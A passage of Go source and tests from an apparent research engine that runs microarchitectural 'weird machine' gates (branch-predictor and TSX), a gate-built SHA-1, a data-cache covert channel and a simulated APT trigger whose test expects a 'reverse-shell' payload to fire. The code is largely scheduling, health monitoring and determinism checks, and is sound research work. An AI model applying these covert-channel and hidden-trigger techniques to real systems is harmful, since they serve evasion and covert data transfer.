		if err := ctx.Err(); err != nil {
			return nil, err
		}
		out, err := ch.Transfer(msg[i : i+1])
		if err != nil {
			return nil, err
		}
		received = append(received, out...)
	}
	res := CovertResult{
		SentB64:     base64.StdEncoding.EncodeToString(msg),
		ReceivedB64: base64.StdEncoding.EncodeToString(received),
		Bits:        8 * len(msg),
	}
	for i := range msg {
		res.BitErrors += popcount8(msg[i] ^ received[i])
	}
	if res.Bits > 0 {
		res.ErrorRate = float64(res.BitErrors) / float64(res.Bits)
	}
	return res, nil
}

func popcount8(b byte) int {
	n := 0
	for ; b != 0; b &= b - 1 {
		n++
	}
	return n
}

// --- circuit jobs ------------------------------------------------------

// CircuitParams selects a netlist — a named preset (see
// circopt.PresetNames) or an explicit spec — and the input vectors to
// evaluate it on.
type CircuitParams struct {
	// Circuit names a built-in netlist preset (adder8, adder16,
	// adder32, sha1round); default adder8. Mutually exclusive with
	// Spec.
	Circuit string `json:"circuit,omitempty"`
	// Spec is an explicit netlist in circopt's canonical JSON shape.
	Spec *circopt.SpecJSON `json:"spec,omitempty"`
	// Inputs lists explicit input vectors, one evaluation per vector.
	Inputs [][]int `json:"inputs,omitempty"`
	// Random adds this many uniformly drawn vectors (from the attempt's
	// derived RNG) when Inputs is empty; default 4.
	Random int `json:"random,omitempty"`
	// Optimize runs the circuit through the circopt pipeline and the
	// engine's shared plan cache (default true). Setting it false runs
	// the unoptimized serial walk — byte-identical outputs under the
	// default noise profile, just more gate activations.
	Optimize *bool `json:"optimize,omitempty"`
	// MinAccuracy, when positive, fails the attempt when the per-bit
	// accuracy against the architectural evaluation lands below it.
	MinAccuracy float64 `json:"min_accuracy,omitempty"`
}

// CircuitResult reports the weird evaluation next to the architectural
// truth, plus what the optimizer did to the netlist. Every field is a
// deterministic function of the netlist, the params and the attempt
// seed, so redundant attempts vote cleanly; cache hit/miss state is
// deliberately absent (it depends on which attempt warmed the cache)
// and is observable through the uwm_circopt_plan_cache_* metrics
// instead.
type CircuitResult struct {
	Circuit     string  `json:"circuit"`
	Fingerprint string  `json:"fingerprint"`
	GatesIn     int     `json:"gates_in"`
	GatesOut    int     `json:"gates_out"`
	Eliminated  int     `json:"eliminated"`
	Levels      int     `json:"levels"`
	Outputs     [][]int `json:"outputs"`
	Golden      [][]int `json:"golden"`
	Correct     int     `json:"correct"`
	Total       int     `json:"total"`
	Accuracy    float64 `json:"accuracy"`
}

func runCircuitJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	var p CircuitParams
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	if p.Spec != nil && p.Circuit != "" {
		return nil, fmt.Errorf("engine: circuit job takes circuit or spec, not both")
	}
	var spec *core.CircuitSpec
	var err error
	name := p.Circuit
	if p.Spec != nil {
		name = "custom"
		spec, err = p.Spec.DecodeSpec()
	} else {
		if name == "" {
			name = "adder8"
		}
		spec, err = circopt.Preset(name)
	}
	if err != nil {
		return nil, fmt.Errorf("engine: circuit job: %w", err)
	}
	if err := spec.Validate(); err != nil {
		return nil, fmt.Errorf("engine: circuit netlist: %w", err)
	}

	inputs := p.Inputs
	if len(inputs) == 0 {
		n := p.Random
		if n <= 0 {
			n = 4
		}
		rng := env.RNG()
		inputs = make([][]int, n)
		for i := range inputs {
			vec := make([]int, spec.NumInputs)
			for k := range vec {
				vec[k] = rng.Bit()
			}
			inputs[i] = vec
		}
	}
	for _, in := range inputs {
		if len(in) != spec.NumInputs {
			return nil, fmt.Errorf("engine: circuit %s wants %d inputs, got %d", name, spec.NumInputs, len(in))
		}
	}

	// Netlists run thousands of gate activations; the checkpoint makes
	// each one a cancellation point, like the SHA-1 job.
	sk := env.Rig().Skelly
	sk.SetCheckpoint(ctx.Err)
	defer sk.SetCheckpoint(nil)

	res := CircuitResult{Circuit: name}
	var outs [][]int
	if p.Optimize == nil || *p.Optimize {
		var plan *circopt.Plan
		if c := env.Plans(); c != nil {
			plan, _, err = c.Plan(spec, circopt.Options{})
		} else {
			plan, err = circopt.Optimize(spec, circopt.Options{})
		}
		if err != nil {
			return nil, err
		}
		res.Fingerprint = plan.Fingerprint
		res.GatesIn = plan.Stats.GatesIn
		res.GatesOut = plan.Stats.GatesOut
		res.Eliminated = plan.Stats.Eliminated()
		res.Levels = plan.Stats.Levels
		outs, err = sk.EvalPlanBatch(plan, inputs, env.Seed())
		if err != nil {
			return nil, err
		}
	} else {
		// Unoptimized serial walk under the same per-vector seed
		// schedule. The value-number stream discipline (see circopt's
		// package doc) makes this byte-identical to the optimized path
		// under the engine's replayable noise profile.
		if res.Fingerprint, err = circopt.Fingerprint(spec, circopt.Options{}); err != nil {
			return nil, err
		}
		res.GatesIn = len(spec.Gates)
		res.GatesOut = len(spec.Gates)
		outs = make([][]int, len(inputs))
		for v, in := range inputs {
			if outs[v], err = sk.EvalSpec(spec, in, noise.SubSeed(env.Seed(), uint64(v))); err != nil {
				return nil, err
			}
		}
	}

	res.Outputs = outs
	res.Golden = make([][]int, len(inputs))
	for v, in := range inputs {
		golden, err := spec.Eval(in)
		if err != nil {
			return nil, err
		}
		res.Golden[v] = golden
		for i := range golden {
			res.Total++
			if outs[v][i] == golden[i] {
				res.Correct++
			}
		}
	}
	if res.Total > 0 {
		res.Accuracy = float64(res.Correct) / float64(res.Total)
	}
	// Health and SLO accounting mirror the gate job: outcomes land
	// before the quality floor can veto the attempt.
	if h := env.Rig().Health; h != nil {
		h.ObserveOutcome("CIRCUIT:"+name, res.Correct, res.Total)
	}
	env.RecordGateOutcome(res.Correct, res.Total)
	if p.MinAccuracy > 0 && res.Accuracy < p.MinAccuracy {
		return nil, fmt.Errorf("engine: circuit %s accuracy %.3f below floor %.3f (%d/%d bits correct)",
			name, res.Accuracy, p.MinAccuracy, res.Correct, res.Total)
	}
	return res, nil
}
