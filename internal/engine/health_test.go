package engine

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"uwm/internal/health"
	"uwm/internal/metrics"
	"uwm/internal/trace"
)

// submitGateBatch runs n TSX_AND gate jobs to completion, serially, so
// the single worker's monitor state advances deterministically.
func submitGateBatch(t *testing.T, e *Engine, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		j := mustSubmit(t, e, JobSpec{
			Type:   JobTypeGate,
			Params: rawParams(t, GateParams{Gate: "TSX_AND", Random: 16}),
		})
		snap := waitJob(t, j)
		if snap.Status != StatusDone {
			t.Fatalf("gate job %d: status=%s err=%s", i, snap.Status, snap.Error)
		}
	}
}

// TestWorkerDriftRecalibration is the deterministic drift scenario of
// the acceptance criteria: a worker machine whose DRAM latency shifts
// mid-run must be flagged by its health monitor, recover through
// exactly one recalibration, and produce the identical drift history
// when the recorded trace is replayed offline through a fresh monitor.
func TestWorkerDriftRecalibration(t *testing.T) {
	rec := trace.NewRecorder(0)
	reg := metrics.NewRegistry()
	e := newTestEngine(t, Config{
		Workers: 1,
		Metrics: reg,
		Sink:    rec,
		Health:  &health.Config{BaselineSamples: 48},
	})
	rig := e.rigs[0]
	th0 := rig.Machine.Threshold()

	// Phase 1: healthy traffic establishes the CUSUM baseline.
	submitGateBatch(t, e, 8)
	if rig.Health.Drifting() {
		t.Fatal("drift flagged under stationary noise")
	}
	if got := rig.Machine.Calibrations(); got != 1 {
		t.Fatalf("calibrations after healthy phase = %d, want 1", got)
	}

	// Phase 2: inject drift — a constant DRAM-latency shift that pulls
	// miss latencies toward the threshold without changing any decoded
	// bit or consuming a single RNG draw.
	cfg := rig.Machine.Noise().Config()
	cfg.MemLatencyDelta = -45
	rig.Machine.Noise().SetConfig(cfg)
	submitGateBatch(t, e, 8)

	// The worker must have detected the drift at a job boundary and
	// recalibrated exactly once: the recalibration re-centers the
	// threshold on the drifted latencies, so the monitor's fresh
	// baseline is healthy again and no second alarm fires.
	if got := rig.Machine.Calibrations(); got != 2 {
		t.Fatalf("calibrations after drift = %d, want 2 (exactly one recalibration)", got)
	}
	if rig.Health.Drifting() {
		t.Error("drift verdict still latched after recalibration")
	}
	th1 := rig.Machine.Threshold()
	if shift := th1 - th0; shift < -45 || shift > -10 {
		t.Errorf("threshold shift %d, want about -22 for MemLatencyDelta=-45", shift)
	}
	st := e.Stats()
	if st.DriftingWorkers != 0 || st.HealthyWorkers != 1 {
		t.Errorf("stats healthy=%d drifting=%d, want 1/0", st.HealthyWorkers, st.DriftingWorkers)
	}
	if got := reg.Counter(MetricRecalibrations, "",
		metrics.L("worker", "0"), metrics.L("outcome", "ok")).Value(); got != 1 {
		t.Errorf("recalibration counter = %d, want 1", got)
	}

	// Live == offline: replaying the recorded trace through a fresh
	// monitor with the same config must reproduce the drift history —
	// same threshold, same calibration count, same read counts, same
	// final verdict.
	live := rig.Health.Snapshot()
	offline := health.Replay(rec.Events(), health.Config{BaselineSamples: 48}).Snapshot()
	if offline.Threshold != live.Threshold {
		t.Errorf("offline threshold %d != live %d", offline.Threshold, live.Threshold)
	}
	if offline.Calibrations != live.Calibrations {
		t.Errorf("offline calibrations %d != live %d", offline.Calibrations, live.Calibrations)
	}
	if offline.Reads != live.Reads || offline.Outliers != live.Outliers {
		t.Errorf("offline reads/outliers %d/%d != live %d/%d",
			offline.Reads, offline.Outliers, live.Reads, live.Outliers)
	}
	if offline.Drifting != live.Drifting || offline.CUSUM != live.CUSUM {
		t.Errorf("offline verdict (drifting=%v cusum=%v) != live (drifting=%v cusum=%v)",
			offline.Drifting, offline.CUSUM, live.Drifting, live.CUSUM)
	}
	if offline.MarginEWMA != live.MarginEWMA {
		t.Errorf("offline margin EWMA %v != live %v", offline.MarginEWMA, live.MarginEWMA)
	}

	// The health snapshot must expose the gate family that ran.
	found := false
	for _, g := range live.Gates {
		if g.Gate == "TSX_AND" && g.Family == "tsx" && g.Reads > 0 {
			found = true
		}
	}
	if !found {
		t.Errorf("TSX_AND missing from snapshot gates: %+v", live.Gates)
	}
}

// TestEngineHealthSnapshot covers the Health() accessor and the outcome
// feed from gate jobs.
func TestEngineHealthSnapshot(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 2})
	j := mustSubmit(t, e, JobSpec{
		Type:   JobTypeGate,
		Params: rawParams(t, GateParams{Gate: "TSX_XOR", Random: 8}),
	})
	waitJob(t, j)

	hs := e.Health()
	if len(hs) != 2 {
		t.Fatalf("health snapshots = %d, want 2", len(hs))
	}
	for i, h := range hs {
		if h.Worker != i {
			t.Errorf("snapshot %d has worker id %d", i, h.Worker)
		}
	}
	// Exactly one worker ran the job; its monitor saw reads and an
	// outcome.
	total := int64(0)
	ops := int64(0)
	for _, h := range hs {
		total += h.Snapshot.Reads
		for _, g := range h.Snapshot.Gates {
			ops += g.Ops
		}
	}
	if total == 0 {
		t.Error("no worker monitor saw timed reads")
	}
	if ops != 8 {
		t.Errorf("observed ops = %d, want 8", ops)
	}
}

// TestRequestIDAnnotation checks that a job's correlation id lands as a
// span annotation in the trace stream.
func TestRequestIDAnnotation(t *testing.T) {
	rec := trace.NewRecorder(0)
	e := newTestEngine(t, Config{Workers: 1, Sink: rec})
	j := mustSubmit(t, e, JobSpec{
		Type:      JobTypeGate,
		Params:    rawParams(t, GateParams{Gate: "TSX_ASSIGN", Inputs: [][]int{{1}}}),
		RequestID: "req-abc123",
	})
	snap := waitJob(t, j)
	if snap.RequestID != "req-abc123" {
		t.Errorf("snapshot request id = %q", snap.RequestID)
	}

	anns := rec.Filter(trace.KindAnnotation)
	if len(anns) == 0 {
		t.Fatal("no annotation events recorded")
	}
	var hit *trace.Event
	for i := range anns {
		if strings.Contains(anns[i].Text, "request_id=req-abc123") {
			hit = &anns[i]
		}
	}
	if hit == nil {
		t.Fatalf("no annotation carries the request id: %v", anns)
	}
	if !strings.Contains(hit.Text, "job="+j.ID()) {
		t.Errorf("annotation %q missing job id", hit.Text)
	}
	// The annotation must point at the job span it decorates.
	found := false
	for _, e := range rec.Filter(trace.KindSpanBegin) {
		if e.Value == hit.Addr && strings.HasPrefix(e.Text, "job:") {
			found = true
		}
	}
	if !found {
		t.Error("annotation's span id does not match any job span")
	}
}

// TestRetryReasonLabels checks the satellite retry-metric split: an
// erroring handler produces reason="error" retries, and disagreeing
// successful attempts produce reason="mismatch" plus a disagreement
// count.
func TestRetryReasonLabels(t *testing.T) {
	errFlaky := errors.New("flaky handler")
	flaky := 0
	Register("test-flaky", func(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
		flaky++
		if flaky == 1 {
			return nil, errFlaky
		}
		return "ok", nil
	})
	split := 0
	Register("test-split", func(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
		split++
		return split, nil // every attempt disagrees
	})

	reg := metrics.NewRegistry()
	e := newTestEngine(t, Config{Workers: 1, Metrics: reg})

	j := mustSubmit(t, e, JobSpec{Type: "test-flaky", Attempts: 2})
	if s := waitJob(t, j); s.Status != StatusDone {
		t.Fatalf("flaky job: %s (%s)", s.Status, s.Error)
	}
	typeL := metrics.L("type", "test-flaky")
	if got := reg.Counter(MetricRetries, "", typeL, metrics.L("reason", RetryError)).Value(); got != 1 {
		t.Errorf("error retries = %d, want 1", got)
	}

	j = mustSubmit(t, e, JobSpec{Type: "test-split", Attempts: 3, Vote: 2})
	s := waitJob(t, j)
	if s.Status != StatusDone || s.Result == nil || s.Result.Quorum {
		t.Fatalf("split job: %+v", s)
	}
	typeL = metrics.L("type", "test-split")
	if got := reg.Counter(MetricRetries, "", typeL, metrics.L("reason", RetryMismatch)).Value(); got != 2 {
		t.Errorf("mismatch retries = %d, want 2", got)
	}
	if got := reg.Counter(MetricDisagreements, "", typeL).Value(); got != 2 {
		t.Errorf("disagreements = %d, want 2", got)
	}
}
