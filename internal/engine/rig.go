package engine

import (
	"fmt"
	"sync"

	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/flightrec"
	"uwm/internal/health"
	"uwm/internal/noise"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/trace"
)

// Rig is the warm execution state one worker pins: a calibrated
// Machine plus every resource the built-in job types need, constructed
// once in a fixed order. Machines are not concurrency-safe and have no
// Reset, so the pool never shares a Rig between workers; instead every
// worker builds an identical one — same seed, same construction order,
// hence the same calibrated threshold and the same address layout —
// and per-job reproducibility comes from re-pinning the machine's
// noise stream to the job's sub-seed before each attempt.
type Rig struct {
	// ID is the worker index, stable for the engine's lifetime; it
	// labels the worker's health snapshot and recalibration metrics.
	ID      int
	Machine *core.Machine
	// Health tracks the machine's gate-timing health. It is wired as the
	// machine's health tap, so calibration and timed-read events reach
	// it whether or not a full trace sink is attached.
	Health *health.Monitor
	// Skelly carries the redundant BP-gate library and, through it,
	// the gates the "gate" job type runs by name.
	Skelly *skelly.Skelly
	// Hasher is the SHA-1 weird hash bound to Skelly.
	Hasher *sha1wm.Hasher
	// TSX maps gate names (TSX_AND, TSX_OR, TSX_XOR, TSX_ASSIGN) to
	// the transactional gate family.
	TSX map[string]*core.TSXGate
	// DC is the data-cache weird register backing the covert-channel
	// job type.
	DC core.WeirdRegister
	// Tap is the worker's switchpoint into the flight recorder: the
	// worker points it at the running job's capture so the machine's
	// event stream lands in the job's private buffer as well as the
	// shared sink. Nil when the engine runs without a flight recorder.
	Tap *flightrec.Tap
}

// BPGate returns the named branch-predictor-family gate, or nil.
func (r *Rig) BPGate(name string) *core.BPGate { return r.Skelly.Gate(name) }

// newRig builds a worker's machine and job resources. Every worker
// calls it with the same configuration, so all rigs are clones; the
// build order below is part of the determinism contract (it fixes the
// address layout gates compute against).
func newRig(cfg Config, sink trace.Sink, id int) (*Rig, error) {
	var hcfg health.Config
	if cfg.Health != nil {
		hcfg = *cfg.Health
	}
	mon := health.NewMonitor(hcfg)
	// The flight-recorder tap rides the sink path, not the health tap:
	// the machine emits the same timed-read and calibration events to
	// both, so a per-job capture sees exactly the reads the monitor saw —
	// the property the replayed-verdict guarantee rests on.
	var tap *flightrec.Tap
	if cfg.FlightRec != nil {
		tap = flightrec.NewTap()
		sink = trace.Tee(sink, tap)
	}
	m, err := core.NewMachine(core.Options{
		Seed:            cfg.Seed,
		Noise:           *cfg.Noise,
		TrainIterations: cfg.TrainIterations,
		Sink:            sink,
		HealthTap:       mon,
	})
	if err != nil {
		return nil, fmt.Errorf("engine: building worker machine: %w", err)
	}
	sk, err := skelly.New(m, cfg.Skelly)
	if err != nil {
		return nil, fmt.Errorf("engine: building gate library: %w", err)
	}
	tsx := make(map[string]*core.TSXGate, 4)
	for _, build := range []func(*core.Machine) (*core.TSXGate, error){
		core.NewTSXAnd, core.NewTSXOr, core.NewTSXXor, core.NewTSXAssign,
	} {
		g, err := build(m)
		if err != nil {
			return nil, fmt.Errorf("engine: building TSX gates: %w", err)
		}
		tsx[g.Name()] = g
	}
	dc, err := core.NewDCWR(m)
	if err != nil {
		return nil, fmt.Errorf("engine: building covert register: %w", err)
	}
	return &Rig{ID: id, Machine: m, Health: mon, Skelly: sk, Hasher: sha1wm.New(sk), TSX: tsx, DC: dc, Tap: tap}, nil
}

// gateTally accumulates per-op gate accuracy across all attempts of
// one job — the evidence stream behind the gate-accuracy SLO. It is
// owned by the job's worker goroutine; no locking.
type gateTally struct {
	correct int
	total   int
}

// Env is what a job handler executes against: the worker's pinned rig
// plus the job attempt's derived randomness. The machine's noise
// stream has already been re-pinned to Seed when the handler runs.
type Env struct {
	rig   *Rig
	rng   *noise.RNG
	seed  uint64
	gate  *gateTally
	plans *circopt.Cache
}

// RecordGateOutcome reports a handler's per-op gate accuracy (correct
// ops out of total) into the job's SLO evidence. Handlers call it even
// when the job goes on to fail an accuracy floor — a failed job's bad
// ops are exactly what the gate-accuracy budget must charge for.
func (e *Env) RecordGateOutcome(correct, total int) {
	if e.gate != nil {
		e.gate.correct += correct
		e.gate.total += total
	}
}

// Rig returns the worker's warm execution state.
func (e *Env) Rig() *Rig { return e.rig }

// Machine returns the worker's pinned machine.
func (e *Env) Machine() *core.Machine { return e.rig.Machine }

// RNG returns the job's input-randomness stream, derived from the job
// sub-seed and independent of the machine's noise stream. It restarts
// identically for every attempt of the job, so redundant executions
// rerun the same inputs and result voting compares like against like.
func (e *Env) RNG() *noise.RNG { return e.rng }

// Seed returns the attempt's derived seed, for handlers that build
// their own machine (the APT transform does) instead of using the
// pinned one.
func (e *Env) Seed() uint64 { return e.seed }

// Plans returns the engine's shared content-addressed plan cache, or
// nil when the env was built outside an engine. Handlers fall back to
// a direct circopt.Optimize in that case — same plan, no reuse.
func (e *Env) Plans() *circopt.Cache { return e.plans }

// lockedSink serializes trace emission from concurrent worker
// machines onto one shared sink (a -trace-out file, the -cycleprof
// profiler). File sinks are single-writer; without this, two workers
// flushing JSONL lines would interleave bytes.
type lockedSink struct {
	mu sync.Mutex
	s  trace.Sink
}

// Emit implements trace.Sink.
func (l *lockedSink) Emit(e trace.Event) {
	l.mu.Lock()
	l.s.Emit(e)
	l.mu.Unlock()
}

// Enabled defers to the wrapped sink so disabled-path elision keeps
// working through the lock.
func (l *lockedSink) Enabled() bool { return trace.Enabled(l.s) }
