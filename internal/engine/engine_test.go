package engine

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
)

// newTestEngine builds an engine and tears it down with the test.
func newTestEngine(t *testing.T, cfg Config) *Engine {
	t.Helper()
	e, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		e.Close(ctx)
	})
	return e
}

// waitJob blocks until the job is terminal and returns its snapshot.
func waitJob(t *testing.T, j *Job) Snapshot {
	t.Helper()
	select {
	case <-j.Done():
	case <-time.After(120 * time.Second):
		t.Fatalf("job %s did not finish", j.ID())
	}
	return j.Snapshot()
}

func mustSubmit(t *testing.T, e *Engine, spec JobSpec) *Job {
	t.Helper()
	j, err := e.Submit(spec)
	if err != nil {
		t.Fatalf("Submit(%s): %v", spec.Type, err)
	}
	return j
}

func rawParams(t *testing.T, v any) json.RawMessage {
	t.Helper()
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatalf("marshal params: %v", err)
	}
	return raw
}

func TestJobTypesRegistered(t *testing.T) {
	got := JobTypes()
	for _, want := range []string{JobTypeGate, JobTypeSHA1, JobTypeAPT, JobTypeCovert} {
		found := false
		for _, n := range got {
			if n == want {
				found = true
			}
		}
		if !found {
			t.Errorf("JobTypes() = %v, missing %q", got, want)
		}
	}
}

func TestSubmitRejectsUnknownTypeAndBadParams(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	if _, err := e.Submit(JobSpec{Type: "no-such-type"}); err == nil {
		t.Error("Submit accepted an unknown job type")
	}
	if _, err := e.Submit(JobSpec{Type: JobTypeGate, Params: json.RawMessage(`{"gate":`)}); err == nil {
		t.Error("Submit accepted invalid params JSON")
	}
}

func TestGateJobsBothFamilies(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 2})
	var jobs []*Job
	for _, gate := range []string{"AND", "OR", "NAND", "AND_AND_OR", "TSX_AND", "TSX_OR", "TSX_XOR", "TSX_ASSIGN"} {
		jobs = append(jobs, mustSubmit(t, e, JobSpec{
			Type:   JobTypeGate,
			Params: rawParams(t, GateParams{Gate: gate, Random: 8}),
		}))
	}
	for _, j := range jobs {
		snap := waitJob(t, j)
		if snap.Status != StatusDone {
			t.Fatalf("gate job %s: status %s, err %q", j.ID(), snap.Status, snap.Error)
		}
		var res GateResult
		if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
			t.Fatalf("gate job %s: bad result: %v", j.ID(), err)
		}
		if res.Total != 8 {
			t.Errorf("gate %s: ran %d activations, want 8", res.Gate, res.Total)
		}
		// The paper's gates all sit well above coin-flip accuracy.
		if res.Accuracy < 0.5 {
			t.Errorf("gate %s: accuracy %.2f below 0.5", res.Gate, res.Accuracy)
		}
	}
}

func TestSHA1JobAgainstReference(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	j := mustSubmit(t, e, JobSpec{
		Type:     JobTypeSHA1,
		Params:   rawParams(t, SHA1Params{Message: "abc"}),
		Attempts: 3,
		Vote:     2,
	})
	snap := waitJob(t, j)
	if snap.Status != StatusDone {
		t.Fatalf("sha1 job: status %s, err %q", snap.Status, snap.Error)
	}
	var res SHA1Result
	if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
		t.Fatalf("sha1 job: bad result: %v", err)
	}
	// NIST vector for "abc".
	const want = "a9993e364706816aba3e25717850c26c9cd0d89d"
	if res.Reference != want {
		t.Errorf("reference digest = %s, want %s", res.Reference, want)
	}
	if len(res.Digest) != 40 {
		t.Errorf("weird digest %q is not 20 bytes of hex", res.Digest)
	}
	if res.GateOps == 0 {
		t.Error("sha1 job reported zero gate operations")
	}
}

func TestCovertJobRoundTrip(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	j := mustSubmit(t, e, JobSpec{
		Type:   JobTypeCovert,
		Params: rawParams(t, CovertParams{Message: "covert round trip", Reps: 3}),
	})
	snap := waitJob(t, j)
	if snap.Status != StatusDone {
		t.Fatalf("covert job: status %s, err %q", snap.Status, snap.Error)
	}
	var res CovertResult
	if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
		t.Fatalf("covert job: bad result: %v", err)
	}
	if res.Bits != 8*len("covert round trip") {
		t.Errorf("bits = %d", res.Bits)
	}
	if res.ErrorRate > 0.2 {
		t.Errorf("error rate %.3f above 0.2", res.ErrorRate)
	}
}

func TestAPTJobFires(t *testing.T) {
	if testing.Short() {
		t.Skip("apt trigger experiment is seconds-long")
	}
	e := newTestEngine(t, Config{Workers: 1})
	j := mustSubmit(t, e, JobSpec{Type: JobTypeAPT})
	snap := waitJob(t, j)
	if snap.Status != StatusDone {
		t.Fatalf("apt job: status %s, err %q", snap.Status, snap.Error)
	}
	var res APTResult
	if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
		t.Fatalf("apt job: bad result: %v", err)
	}
	if res.Pings < 1 {
		t.Errorf("payload fired after %d pings", res.Pings)
	}
	if res.Payload != "reverse-shell" {
		t.Errorf("payload = %q", res.Payload)
	}
}

// determinismMix is the job stream the serial-vs-pooled test replays:
// both gate families, redundant voting, a covert transfer and a weird
// hash, all with engine-derived sub-seeds.
func determinismMix(t *testing.T) []JobSpec {
	t.Helper()
	specs := []JobSpec{
		{Type: JobTypeSHA1, Params: rawParams(t, SHA1Params{Message: "abc"}), Attempts: 2, Vote: 2},
		{Type: JobTypeCovert, Params: rawParams(t, CovertParams{Message: "determinism", Reps: 3})},
		{Type: JobTypeGate, Params: rawParams(t, GateParams{Gate: "TSX_XOR", Random: 6}), Attempts: 3, Vote: 2},
	}
	for _, gate := range []string{"AND", "NAND", "AND_AND_OR", "TSX_AND", "TSX_ASSIGN"} {
		specs = append(specs, JobSpec{
			Type:   JobTypeGate,
			Params: rawParams(t, GateParams{Gate: gate, Random: 6}),
		})
	}
	return specs
}

// runMix submits the mix in order and returns the terminal snapshots
// in submission order.
func runMix(t *testing.T, workers int, specs []JobSpec) []Snapshot {
	t.Helper()
	e := newTestEngine(t, Config{Workers: workers, QueueDepth: len(specs) + 1})
	jobs := make([]*Job, len(specs))
	for i, spec := range specs {
		jobs[i] = mustSubmit(t, e, spec)
	}
	snaps := make([]Snapshot, len(jobs))
	for i, j := range jobs {
		snaps[i] = waitJob(t, j)
	}
	return snaps
}

// TestSerialPooledDeterminism is the engine's reproducibility
// acceptance test: the same submission stream, run through a
// single-worker pool and a four-worker pool with the same root seed,
// must produce byte-identical per-job results — including the vote
// accounting, which proves every redundant attempt replayed too.
func TestSerialPooledDeterminism(t *testing.T) {
	specs := determinismMix(t)
	serial := runMix(t, 1, specs)
	pooled := runMix(t, 4, specs)
	for i := range serial {
		s, p := serial[i], pooled[i]
		if s.Status != p.Status {
			t.Errorf("job %d (%s): serial status %s, pooled %s", i, specs[i].Type, s.Status, p.Status)
			continue
		}
		if s.SubSeed != p.SubSeed {
			t.Errorf("job %d: sub-seed %d vs %d", i, s.SubSeed, p.SubSeed)
		}
		if s.Result == nil || p.Result == nil {
			t.Errorf("job %d (%s): missing result (serial %v, pooled %v), err %q / %q",
				i, specs[i].Type, s.Result != nil, p.Result != nil, s.Error, p.Error)
			continue
		}
		if string(s.Result.Value) != string(p.Result.Value) {
			t.Errorf("job %d (%s): serial result %s != pooled result %s",
				i, specs[i].Type, s.Result.Value, p.Result.Value)
		}
		if s.Result.Attempts != p.Result.Attempts || s.Result.Votes != p.Result.Votes || s.Result.Quorum != p.Result.Quorum {
			t.Errorf("job %d (%s): vote accounting diverged: serial %+v, pooled %+v",
				i, specs[i].Type, s.Result, p.Result)
		}
	}
}

// TestSeedOverrideReplaysJob checks that pinning JobSpec.Seed replays
// one job bit-for-bit regardless of where it lands in the stream.
func TestSeedOverrideReplaysJob(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	spec := JobSpec{
		Type:   JobTypeGate,
		Params: rawParams(t, GateParams{Gate: "TSX_XOR", Random: 12}),
		Seed:   0xfeedface,
	}
	a := waitJob(t, mustSubmit(t, e, spec))
	// An interleaved job perturbs the machine's architectural history.
	waitJob(t, mustSubmit(t, e, JobSpec{Type: JobTypeGate, Params: rawParams(t, GateParams{Gate: "AND", Random: 4})}))
	b := waitJob(t, mustSubmit(t, e, spec))
	if a.Status != StatusDone || b.Status != StatusDone {
		t.Fatalf("statuses %s / %s", a.Status, b.Status)
	}
	if string(a.Result.Value) != string(b.Result.Value) {
		t.Errorf("same explicit seed produced different results:\n%s\n%s", a.Result.Value, b.Result.Value)
	}
}

// TestDeadlineStopsGateLoop submits a hash whose full run takes on the
// order of a second with a deadline three orders of magnitude shorter:
// the job must fail with the deadline error well before the full hash
// could have completed, and the worker must stay usable.
func TestDeadlineStopsGateLoop(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	start := time.Now()
	j := mustSubmit(t, e, JobSpec{
		Type:    JobTypeSHA1,
		Params:  rawParams(t, SHA1Params{Message: strings.Repeat("x", 200)}),
		Timeout: 30 * time.Millisecond,
	})
	snap := waitJob(t, j)
	if snap.Status != StatusFailed {
		t.Fatalf("status = %s, want %s (err %q)", snap.Status, StatusFailed, snap.Error)
	}
	if !strings.Contains(snap.Error, context.DeadlineExceeded.Error()) {
		t.Errorf("error %q does not mention the deadline", snap.Error)
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Errorf("deadline-exceeded job held the worker for %v", elapsed)
	}

	// The abandoned hash must not wedge or corrupt the worker.
	after := waitJob(t, mustSubmit(t, e, JobSpec{
		Type:   JobTypeGate,
		Params: rawParams(t, GateParams{Gate: "AND", Random: 4}),
	}))
	if after.Status != StatusDone {
		t.Errorf("follow-up job: status %s, err %q", after.Status, after.Error)
	}
}

// blockingHandler registers a job type that parks until released (or
// its context is canceled), for queue and drain tests.
func blockingHandler(t *testing.T, name string) (release func()) {
	t.Helper()
	ch := make(chan struct{})
	Register(name, func(ctx context.Context, _ *Env, _ json.RawMessage) (any, error) {
		select {
		case <-ch:
			return "released", nil
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	})
	var once sync.Once
	return func() { once.Do(func() { close(ch) }) }
}

func TestQueueFullBackpressure(t *testing.T) {
	release := blockingHandler(t, "test-block-backpressure")
	defer release()
	e := newTestEngine(t, Config{Workers: 1, QueueDepth: 1})

	running := mustSubmit(t, e, JobSpec{Type: "test-block-backpressure"})
	// Wait for the worker to pick it up so the queue slot frees.
	deadline := time.Now().Add(10 * time.Second)
	for e.Stats().Inflight == 0 {
		if time.Now().After(deadline) {
			t.Fatal("worker never picked up the blocking job")
		}
		time.Sleep(time.Millisecond)
	}
	queued := mustSubmit(t, e, JobSpec{Type: "test-block-backpressure"})

